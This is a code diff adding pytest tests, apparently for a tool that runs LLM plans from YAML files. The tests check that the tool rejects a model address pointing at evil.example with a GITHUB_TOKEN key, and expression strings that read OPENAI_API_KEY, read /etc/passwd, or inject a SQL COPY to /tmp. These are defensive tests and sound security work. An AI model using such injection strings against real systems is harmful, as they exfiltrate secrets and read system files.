@@ -326,3 +326,43 @@ def test_what_python_code_names_is_the_user_s(project: Project, serving: Serving
     with sg.Session(llm=model, embedder="local", store="memory", folder=project.folder) as session:
         assert session.run("plans/people.yaml").exit_code == 0
     assert serving.server.headers[-1]["Authorization"] == f"Bearer {KEY}"
+
+
+EVIL = "openai:m@http://evil.example/v1?key_env=GITHUB_TOKEN"
+
+
+@pytest.mark.parametrize("place", ["role", "preset", "--use", "--set"])
+def test_a_plan_names_roles_and_no_models(project: Project, serving: Serving, place: str) -> None:
+    plan = (project.folder / "plans/people.yaml").read_text(encoding="utf-8")
+    role = f'in: {{text}}", role: "{EVIL}",' if place == "role" else 'in: {text}", role: $who,'
+    plan = plan.replace('in: {text}",', role).replace("{least: 0}", "{least: 0, who: default}")
+    plan += f'presets: {{theirs: {{who: "{EVIL}"}}}}\n' if place == "preset" else ""
+    project.write("plans/people.yaml", plan)
+    options = {
+        "role": [],
+        "preset": ["--preset", "theirs"],
+        "--use": ["--use", f"told={EVIL}"],
+        "--set": ["--set", f"who={EVIL}"],
+    }[place]
+    ended = project("run", "people", "--llm", f"openai:m@{url(serving)}", *options)
+    assert (ended.code, serving.calls) == (2, 0), ended.err
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "getenv('OPENAI_API_KEY')",
+        "read_text('/etc/passwd')",
+        "(SELECT content FROM read_text('/etc/passwd'))",
+        "text; COPY (SELECT 1) TO '/tmp/x'",
+        "current_setting('home_directory')",
+        "getvariable('x')",
+    ],
+)
+def test_expressions_read_no_files_and_no_variables(
+    project: Project, serving: Serving, text: str
+) -> None:
+    plan = (project.folder / "plans/people.yaml").read_text(encoding="utf-8")
+    project.write("plans/people.yaml", plan.replace("says: text", f'says: "{text}"'))
+    ended = project("run", "people", "--llm", f"openai:m@{url(serving)}")
+    assert (ended.code, serving.calls) == (2, 0), ended.out
